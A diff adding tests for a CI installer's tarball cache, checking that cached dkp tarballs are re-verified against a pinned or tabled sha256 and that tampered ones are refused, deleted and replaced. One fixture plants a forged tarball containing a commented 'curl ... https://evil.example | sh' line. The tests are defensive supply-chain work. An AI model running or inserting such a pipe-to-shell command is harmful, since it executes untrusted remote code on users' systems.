@@ -644,6 +644,149 @@ describe('installDkp: download, verify, cache', () => {
   })
 })
 
+describe('installDkp: tarball cache (one download per runner pool)', () => {
+  // Each "runner" is a fresh tool cache and temp dir, as on hosted runners; the tarball cache is
+  // what actions/cache restores into a job (here: a directory copied from the previous runner's).
+  let n = 0
+  let last = { cacheRoot: '', tempDir: '' }
+  const runner = async (shared: string, extra: Partial<InstallDkpOptions> = {}) => {
+    const id = n++
+    last = { cacheRoot: join(tmp, `runner-${id}`, 'tool-cache'), tempDir: join(tmp, `runner-${id}`, 'temp') }
+    return installDkp(opts({ sha256: good.sha256, ...last, tarballCacheDir: shared, ...extra }))
+  }
+  const restoreInto = async (from: string) => {
+    const to = join(tmp, `restored-${n++}`)
+    await run('cp', ['-a', from, to])
+    return to
+  }
+  const name = tarballName('v2.8.1', 'linux', 'amd64')
+  const key = 'dkp-fleet-dkp-v2.8.1-linux-amd64-'
+
+  it('a miss downloads, verifies and keeps the tarball with its key; a fresh runner with that tarball re-verifies it and makes no request', async () => {
+    srv.serve(pathFor(), good.data)
+    const shared = join(tmp, 'dkp-cache')
+    const first = await runner(shared)
+    expect(first).toMatchObject({
+      source: 'download',
+      checksum: 'pinned',
+      sha256: good.binarySha256,
+      tarballCache: { state: 'stored', file: join(shared, name), key: `${key}${good.sha256}` },
+    })
+    expect(sha256(await readFile(join(shared, name)))).toBe(good.sha256)
+    expect(await readdir(shared)).toEqual([name]) // nothing staged left behind
+    expect(srv.count(pathFor())).toBe(1)
+
+    lines = { info: [], warning: [] }
+    const restored = await restoreInto(shared)
+    const second = await runner(restored)
+    expect(srv.count(pathFor())).toBe(1)
+    expect(second).toMatchObject({
+      source: 'tarball-cache',
+      checksum: 'pinned',
+      sha256: good.binarySha256,
+      tarballSha256: good.sha256,
+      tarballCache: { state: 'restored', file: join(restored, name) },
+    })
+    expect(second.timings.hashMs).toBeGreaterThanOrEqual(0)
+    expect(second.binary.startsWith(join(tmp, 'runner-'))).toBe(true)
+    expect(lines.info.join('\n')).toContain(`sha256 matches the pinned value (${good.sha256})`)
+    expect(lines.warning).toEqual([])
+    // The runner's own tool cache now holds it: the next stage of the same job is a tool-cache hit.
+    const again = await installDkp(opts({ sha256: good.sha256, ...last, tarballCacheDir: restored }))
+    expect(again.source).toBe('cache')
+    expect(await files(last.tempDir)).toEqual([])
+  })
+
+  it('a tampered tarball in the cache is refused naming both hashes and the key, deleted, and dkp is downloaded and verified', async () => {
+    srv.serve(pathFor(), good.data)
+    const shared = join(tmp, 'dkp-cache')
+    await mkdir(shared)
+    // A well-formed release tarball holding another dkp, under the right name (what a forged
+    // cache entry would hold): it would pass a record check, not the pinned sha256.
+    const evil = await buildDkpTarball({
+      dir: buildDir,
+      script: `${dkpStandInScript()}\n# curl -s https://evil.example | sh\n`,
+    })
+    await writeFile(join(shared, name), evil.data)
+    const r = await runner(shared)
+    expect(r).toMatchObject({
+      source: 'download',
+      sha256: good.binarySha256,
+      tarballCache: { state: 'stored' },
+    })
+    expect(srv.count(pathFor())).toBe(1)
+    const warning = lines.warning.join('\n')
+    expect(warning).toContain(`has sha256 ${evil.sha256}, but the pinned sha256 is ${good.sha256}`)
+    expect(warning).toContain(`gh cache delete ${key}${good.sha256}`)
+    // The verified download replaced it.
+    expect(sha256(await readFile(join(shared, name)))).toBe(good.sha256)
+  })
+
+  it('with the shipped table instead of a pin, the table value is the anchor (a tarball not matching it is refused)', async () => {
+    srv.serve(pathFor(), good.data)
+    const shared = join(tmp, 'dkp-cache')
+    await mkdir(shared)
+    await writeFile(join(shared, name), Buffer.concat([good.data, Buffer.from('x')]))
+    const table = { 'linux-amd64-v2.8.1': { sha256: good.sha256, source: 'test' } }
+    const r = await runner(shared, { sha256: undefined, checksums: table, requireChecksum: true })
+    expect(r).toMatchObject({ source: 'download', checksum: 'table' })
+    expect(lines.warning.join('\n')).toMatch(/but the table sha256 is/)
+    const second = await runner(await restoreInto(shared), {
+      sha256: undefined,
+      checksums: table,
+      requireChecksum: true,
+    })
+    expect(second).toMatchObject({ source: 'tarball-cache', checksum: 'table' })
+    expect(srv.count(pathFor())).toBe(1)
+  })
+
+  it('a tarball for another pin is not used (the pin decides, not the cache)', async () => {
+    const other = await buildDkpTarball({ dir: buildDir, extraFiles: { NOTICE: 'n\n' } })
+    srv.serve(pathFor(), other.data)
+    const shared = join(tmp, 'dkp-cache')
+    await mkdir(shared)
+    await writeFile(join(shared, name), good.data)
+    const r = await runner(shared, { sha256: other.sha256 })
+    expect(r).toMatchObject({ source: 'download', tarballSha256: other.sha256 })
+    expect(lines.warning.join('\n')).toContain(
+      `has sha256 ${good.sha256}, but the pinned sha256 is ${other.sha256}`,
+    )
+  })
+
+  it('without a known sha256 the tarball cache is neither read nor written (nothing to verify a cached tarball against)', async () => {
+    srv.serve(pathFor(), good.data)
+    const shared = join(tmp, 'dkp-cache')
+    await mkdir(shared)
+    await writeFile(join(shared, name), good.data)
+    const r = await runner(shared, { sha256: undefined })
+    expect(r.source).toBe('download')
+    expect(r.tarballCache).toBeUndefined()
+    expect(srv.count(pathFor())).toBe(1)
+    expect(lines.info.join('\n')).toContain('the dkp tarball cache is not used: no sha256 is known')
+  })
+
+  it('a tarball cache that cannot be written costs a warning, not the install', async () => {
+    srv.serve(pathFor(), good.data)
+    const blocked = join(tmp, 'not-a-dir')
+    await writeFile(blocked, 'a file where the directory should be')
+    const r = await runner(blocked)
+    expect(r.source).toBe('download')
+    expect(r.tarballCache).toBeUndefined()
+    expect(lines.warning.join('\n')).toMatch(
+      /could not keep the verified dkp tarball in .*later jobs download it again/,
+    )
+  })
+
+  it('dkp-path ignores the tarball cache', async () => {
+    const shared = join(tmp, 'dkp-cache')
+    const p = join(tmp, 'dkp')
+    await writeFile(p, dkpStandInScript(), { mode: 0o755 })
+    const r = await runner(shared, { dkpPath: p, sha256: undefined })
+    expect(r.source).toBe('dkp-path')
+    expect(await files(shared)).toEqual([])
+  })
+})
+
 describe('installDkp: dkp-path (pre-installed binary)', () => {
   async function binary(name: string, script: string, mode = 0o755): Promise<string> {
     const p = join(tmp, name)
